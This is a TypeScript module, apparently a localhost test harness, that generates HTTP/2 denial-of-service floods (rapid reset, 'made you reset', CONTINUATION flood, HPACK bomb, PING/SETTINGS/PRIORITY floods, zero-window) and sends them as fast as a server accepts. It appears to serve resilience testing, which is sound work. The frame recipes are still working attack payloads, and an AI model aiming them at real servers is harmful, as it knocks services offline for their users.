import { connect, type TLSSocket } from "node:tls"
import { block, END_HEADERS, END_STREAM, FRAME, frame } from "./h2_raw.ts"

/** What a flood sends, again and again: bytes for the round `n`, from 0. `undefined`: that was all. */
export type Flood = (n: number) => Buffer | undefined

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
const FRAMES_A_ROUND = 200

function headers(stream: number, method: string, path: string, flags: number): Buffer {
  const fields = [
    [":method", method],
    [":scheme", "https"],
    [":path", path],
    [":authority", "a.example"],
  ] as const
  return frame(FRAME.HEADERS, flags, stream, block(fields))
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

/** The same frames in every round. */
function again(one: Buffer): Flood {
  const round = Buffer.concat(Array.from({ length: FRAMES_A_ROUND }, () => one))
  return () => round
}

/** After some opening bytes, the same frames in every round. */
function after(opening: Buffer, one: Buffer): Flood {
  const rest = again(one)
  return (n) => (n === 0 ? opening : rest(n))
}

/** A round of new streams; client streams have odd numbers. */
function streams(make: (stream: number) => Buffer): Flood {
  return (n) =>
    Buffer.concat(Array.from({ length: FRAMES_A_ROUND }, (_, i) => make(2 * (n * FRAMES_A_ROUND + i) + 1)))
}

/** `GET /big` should be a large body and `GET /slow` one that takes its time. */
export const FLOODS: Readonly<Record<string, Flood>> = {
  "rapid reset": streams((stream) =>
    Buffer.concat([
      headers(stream, "GET", "/slow", END_HEADERS | END_STREAM),
      frame(FRAME.RST_STREAM, 0, stream, uint32(8)),
    ]),
  ),
  // An increment of 0 is an error of the stream: the server resets what it has begun to work on.
  "made you reset": streams((stream) =>
    Buffer.concat([
      headers(stream, "GET", "/slow", END_HEADERS | END_STREAM),
      frame(FRAME.WINDOW_UPDATE, 0, stream, uint32(0)),
    ]),
  ),
  CONTINUATION: after(
    headers(1, "GET", "/", END_STREAM),
    frame(FRAME.CONTINUATION, 0, 1, block([["x-padding", "x".repeat(1000)]])),
  ),
  "HPACK bomb": (n) => {
    // A field of 4,000 bytes enters the table; each byte 0xbe afterwards stands for it.
    const entry = Buffer.concat([
      Buffer.from([0x40, 1, 0x78, 127]),
      Buffer.from([0xa1, 30]),
      Buffer.alloc(4000, "y"),
    ])
    const bomb = Buffer.concat([block([[":method", "GET"]]), entry, Buffer.alloc(12_000, 0xbe)])
    return frame(FRAME.HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, bomb)
  },
  PING: again(frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
  SETTINGS: again(frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))),
  PRIORITY: again(frame(FRAME.PRIORITY, 0, 1, Buffer.concat([uint32(0), Buffer.from([1])]))),
  "empty DATA": after(headers(1, "POST", "/", END_HEADERS), frame(FRAME.DATA, 0, 1, Buffer.alloc(0))),
  "zero window": (n) => {
    if (n > 0) return undefined
    const noWindow = frame(FRAME.SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, 4]), uint32(0)]))
    const asked = Array.from({ length: 200 }, (_, i) =>
      headers(2 * i + 1, "GET", "/big", END_HEADERS | END_STREAM),
    )
    return Buffer.concat([noWindow, ...asked])
  },
}

/** A running flood on a connection of its own, which reads nothing of what the server says unless told to. */
export interface RunningFlood {
  readonly sentBytes: () => number
  /** The server has ended the connection. */
  readonly ended: () => boolean
  stop(): void
}

/** Sends a flood as fast as the server takes it, until it is stopped or the server ends the connection. */
export async function startFlood(port: number, flood: Flood, read: boolean): Promise<RunningFlood> {
  const socket = connect({ port, host: "127.0.0.1", ALPNProtocols: ["h2"], rejectUnauthorized: false })
  const state = { sent: 0, ended: false, stopped: false }
  let wake = (): void => {}
  socket.on("drain", () => wake())
  for (const event of ["close", "error", "end"])
    socket.on(event, () => {
      state.ended = true
      wake()
    })
  await new Promise<void>((resolve) => socket.once("secureConnect", () => resolve()))
  if (read) socket.on("data", () => {})
  else socket.pause()
  socket.write(Buffer.concat([Buffer.from(PREFACE), frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]))
  const drained = (): Promise<void> =>
    new Promise((resolve) => {
      wake = resolve
    })
  void send(socket, flood, state, drained)
  return {
    sentBytes: () => state.sent,
    ended: () => state.ended,
    stop() {
      state.stopped = true
      socket.destroy()
    },
  }
}

async function send(
  socket: TLSSocket,
  flood: Flood,
  state: { sent: number; ended: boolean; stopped: boolean },
  drained: () => Promise<void>,
): Promise<void> {
  for (let n = 0; !state.stopped && !state.ended; n++) {
    const bytes = flood(n)
    if (bytes === undefined) return
    state.sent += bytes.length
    if (socket.write(bytes)) await new Promise<void>((resolve) => setImmediate(resolve))
    else await drained()
  }
}
